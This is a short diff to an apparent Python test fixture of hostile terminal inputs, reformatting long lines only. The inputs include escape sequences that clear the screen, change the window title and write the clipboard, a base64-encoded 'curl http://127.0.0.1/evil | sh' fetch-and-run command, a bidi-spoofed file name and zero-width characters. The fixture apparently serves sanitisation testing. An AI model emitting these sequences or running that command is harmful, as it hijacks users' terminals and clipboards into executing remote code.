@@ -19,7 +19,8 @@ _OSC52 = base64.b64encode(b"curl http://127.0.0.1/evil | sh").decode()
 
 LINES: dict[str, bytes] = {
     "csi-colour-no-reset": b"HOSTILE-01 \x1b[31m\x1b[1m\x1b[5mred, bold and blinking, never reset",
-    "cursor-movement": b"HOSTILE-02 \x1b[2J\x1b[Hscreen cleared, cursor home \x1b[10;5Hjumped \x1b[3Aup \x1b[?25lhidden",
+    "cursor-movement": b"HOSTILE-02 \x1b[2J\x1b[Hscreen cleared, cursor home \x1b[10;5Hjumped \x1b[3Aup "
+                       b"\x1b[?25lhidden",
     "osc0-title": b"HOSTILE-03 \x1b]0;pwned\x07window title changed",
     "osc52-clipboard": b"HOSTILE-04 \x1b]52;c;" + _OSC52.encode() + b"\x07clipboard written",
     "osc8-hyperlink": b"HOSTILE-05 \x1b]8;;http://127.0.0.1/evil\x1b\\click here\x1b]8;;\x1b\\ hyperlink",
@@ -31,9 +32,11 @@ LINES: dict[str, bytes] = {
                       + " \u009b31mC1 CSI red \u009d0;pwned\u009c C1 OSC").encode("utf-8"),
     "c1-raw-bytes": b"HOSTILE-10 " + bytes(range(0x80, 0xA0)) + b" \x9b31mraw C1 CSI",
     "lone-esc": b"HOSTILE-11 a lone escape at the end \x1b",
-    "invalid-utf8": b"HOSTILE-12 \xff\xfe \xc3\x28 \xe2\x82 \xf0\x28\x8c\xbc overlong \xc0\xaf surrogate \xed\xa0\x80 end",
+    "invalid-utf8": b"HOSTILE-12 \xff\xfe \xc3\x28 \xe2\x82 \xf0\x28\x8c\xbc overlong \xc0\xaf "
+                    b"surrogate \xed\xa0\x80 end",
     "bom": "HOSTILE-13 \ufeffbyte order mark after the marker".encode("utf-8"),
-    "bidi-override": "HOSTILE-14 invoice_\u202eexe.pdf\u202c \u2066isolate\u2069 \u202dforced LTR\u202c".encode("utf-8"),
+    "bidi-override": "HOSTILE-14 invoice_\u202eexe.pdf\u202c \u2066isolate\u2069 \u202dforced LTR\u202c".encode(
+        "utf-8"),
     "zero-width": "HOSTILE-15 pass\u200bword ad\u2060min zw\u200cnj\u200dj".encode("utf-8"),
 }
 _head = b"HOSTILE-16 2 MiB line: "
